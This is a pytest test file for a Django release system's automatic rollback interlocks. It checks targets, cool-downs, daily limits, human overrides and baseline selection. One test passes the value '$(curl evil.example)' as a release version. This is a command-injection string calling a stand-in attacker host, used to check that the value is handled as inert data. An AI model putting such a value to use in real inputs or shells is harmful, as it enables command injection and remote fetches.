from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest

from releases.models import Deploy, Release, Rollback, RollbackTarget, Watch
from releases.rollbacks.interlocks import Plan, plan_of, release_before, target_for
from tests.factories import make_environment, make_project, make_release
from tests.releases.rolling import (
    MINUTE,
    NOON,
    degraded,
    make_deploy,
    make_target,
    make_watch,
)

pytestmark = pytest.mark.django_db

State = Rollback.State


@pytest.fixture
def target() -> RollbackTarget:
    return make_target()


@pytest.fixture
def watch() -> Watch:
    return degraded()


def reasons(plan: Plan) -> list[str]:
    assert all(lock.sentence.endswith(".") for lock in plan.interlocks)
    return [lock.reason for lock in plan.interlocks]


def plan(watch: Watch) -> Plan:
    return plan_of(watch.deploy, NOON)


def sent(deploy: Deploy, state: str = State.VERIFIED, **fields: Any) -> Rollback:
    defaults = {"created": NOON - timedelta(hours=2), "idempotency_key": uuid4()}
    return Rollback.objects.create(deploy=deploy, state=state, **defaults | fields)


def version_before(watch: Watch) -> str:
    release = release_before(watch.deploy, watch)
    return release.version if release else ""


def test_nothing_stands_in_the_way_of_a_bad_deploy(
    watch: Watch, target: RollbackTarget
) -> None:
    found = plan(watch)

    assert reasons(found) == []
    assert found.target == target
    assert found.to_release == watch.baseline


def test_without_a_target_nothing_is_called(watch: Watch) -> None:
    assert reasons(plan(watch)) == ["no_target"]


def test_a_target_that_is_switched_off_is_not_called(watch: Watch) -> None:
    make_target(is_active=False)

    assert reasons(plan(watch)) == ["disabled"]


def test_an_irreversible_deploy_stays(watch: Watch, target: RollbackTarget) -> None:
    Deploy.objects.filter(pk=watch.pk).update(irreversible=True)
    watch.deploy.refresh_from_db()

    assert reasons(plan(watch)) == ["irreversible"]


def test_a_rollback_is_not_rolled_back(watch: Watch, target: RollbackTarget) -> None:
    environment = watch.deploy.environment
    back = make_deploy(
        environment, "shop@0.9", NOON, rollback=sent(watch.deploy, State.FAILED)
    )

    assert reasons(plan_of(back, NOON)) == ["is_rollback"]


def test_a_newer_deploy_is_left_alone(watch: Watch, target: RollbackTarget) -> None:
    make_deploy(watch.deploy.environment, "shop@1.2", NOON - MINUTE)

    assert reasons(plan(watch)) == ["superseded"]


def test_a_deploy_of_another_environment_does_not_supersede(
    watch: Watch, target: RollbackTarget
) -> None:
    staging = make_environment(watch.deploy.project, "staging")
    make_deploy(staging, "shop@1.2", NOON - MINUTE)

    assert reasons(plan(watch)) == []


def test_an_archived_release_is_not_gone_back_to(
    watch: Watch, target: RollbackTarget
) -> None:
    Release.objects.filter(version="shop@1.0").update(archived_at=NOON)
    watch.refresh_from_db()

    assert reasons(plan(watch)) == ["release_archived"]


def test_the_first_deploy_has_nothing_to_go_back_to(target: RollbackTarget) -> None:
    environment = make_environment(make_project())

    first = make_deploy(environment, "1", NOON)

    assert reasons(plan_of(first, NOON)) == ["no_release"]


def test_a_release_that_was_rolled_back_is_not_gone_back_to(
    watch: Watch, target: RollbackTarget
) -> None:
    old = Deploy.objects.get(release__version="shop@1.0")
    sent(old)

    assert reasons(plan(watch)) == ["release_rolled_back"]


def test_a_release_that_was_judged_healthy_after_its_rollback_is_good_again(
    watch: Watch, target: RollbackTarget
) -> None:
    sent(Deploy.objects.get(release__version="shop@1.0"))
    again = make_deploy(watch.deploy.environment, "shop@1.0", NOON - 90 * MINUTE)
    make_watch(again, Watch.Verdict.HEALTHY)

    assert reasons(plan(watch)) == []


def test_a_rollback_elsewhere_says_nothing_of_the_release_here(
    watch: Watch, target: RollbackTarget
) -> None:
    staging = make_environment(watch.deploy.project, "staging")
    sent(make_deploy(staging, "shop@1.0", NOON - timedelta(hours=30)))

    assert reasons(plan(watch)) == []


def test_a_rise_from_outside_rolls_nothing_back(target: RollbackTarget) -> None:
    assert reasons(plan(degraded(reason="outside"))) == ["outside"]


def test_evidence_from_few_networks_rolls_nothing_back(target: RollbackTarget) -> None:
    watch = degraded(numbers={"few_networks": True})

    assert reasons(plan(watch)) == ["few_networks"]


def test_a_target_cools_down(watch: Watch, target: RollbackTarget) -> None:
    sent(
        make_deploy(watch.deploy.environment, "shop@0.9", NOON - timedelta(hours=30)),
        created=NOON - 12 * MINUTE,
    )

    found = plan(watch)

    assert reasons(found) == ["cool_down"]
    assert "12 minutes ago; the target waits 30" in found.interlocks[0].sentence


def test_too_many_rollbacks_in_a_day_need_a_person(watch: Watch) -> None:
    make_target(max_per_day=2)
    for hours in (3, 23):
        deploy = make_deploy(
            watch.deploy.environment, f"0.{hours}", NOON - timedelta(hours=50)
        )
        sent(deploy, created=NOON - timedelta(hours=hours))

    assert reasons(plan(watch)) == ["too_many"]


@pytest.mark.parametrize("state", [State.REFUSED, State.DRY_RUN, State.FAILED])
def test_what_was_not_sent_does_not_count(
    watch: Watch, target: RollbackTarget, state: str
) -> None:
    deploy = make_deploy(watch.deploy.environment, "0.9", NOON - timedelta(hours=50))
    sent(deploy, state, created=NOON - MINUTE)

    assert reasons(plan(watch)) == []


def test_a_person_may_pass_over_frequency_only(watch: Watch) -> None:
    make_target(max_per_day=1)
    Deploy.objects.filter(pk=watch.pk).update(irreversible=True)
    watch.deploy.refresh_from_db()
    old = make_deploy(watch.deploy.environment, "0.9", NOON - timedelta(hours=50))
    sent(old, created=NOON - MINUTE)
    found = plan(watch)
    assert reasons(found) == ["irreversible", "too_many", "cool_down"]

    left = found.blocked(frozenset({"irreversible", "too_many", "cool_down"}))

    assert [lock.reason for lock in left] == ["irreversible"]


def test_the_most_specific_target_is_called() -> None:
    project = make_project()
    make_target(name="all")
    make_target(name="production", environment="production")
    make_target(name="project", project=project)
    make_target(name="both", project=project, environment="production")
    make_target(name="other", project=make_project())

    def name(environment: str) -> str:
        return str(target_for(project, environment))

    assert (name("production"), name("staging")) == ("both", "project")
    assert str(target_for(make_project(), "production")) == "production"
    assert str(target_for(make_project(), "staging")) == "all"


def test_without_a_baseline_the_release_of_the_deploy_before_is_taken() -> None:
    assert version_before(degraded(baseline=None)) == "shop@1.0"


def test_a_release_that_is_its_own_baseline_is_not_gone_back_to(watch: Watch) -> None:
    watch.baseline = watch.deploy.release

    assert version_before(watch) == "shop@1.0"


def test_a_deploy_that_was_rolled_back_is_skipped() -> None:
    watch = degraded(baseline=None)
    environment = watch.deploy.environment
    sent(make_deploy(environment, "shop@1.0.5", NOON - timedelta(hours=1)))

    assert version_before(watch) == "shop@1.0"


def test_a_baseline_that_events_only_name_does_not_count_beside_deploys(
    watch: Watch,
) -> None:
    watch.baseline = make_release(watch.deploy.project, "$(curl evil.example)")

    assert version_before(watch) == "shop@1.0"


def test_a_baseline_that_events_only_name_counts_where_all_was_rolled_back() -> None:
    environment = make_environment(make_project())
    sent(make_deploy(environment, "2", NOON - MINUTE))
    known = make_release(environment.project, "1")

    bad = make_deploy(environment, "3", NOON)
    watch = make_watch(bad, Watch.Verdict.DEGRADED, baseline=known)

    assert version_before(watch) == "1"


def test_a_baseline_that_events_only_name_counts_where_nothing_was_deployed() -> None:
    environment = make_environment(make_project())
    first = make_deploy(environment, "2", NOON)
    known = make_release(environment.project, "1")

    watch = make_watch(first, Watch.Verdict.DEGRADED, baseline=known)

    assert version_before(watch) == "1"
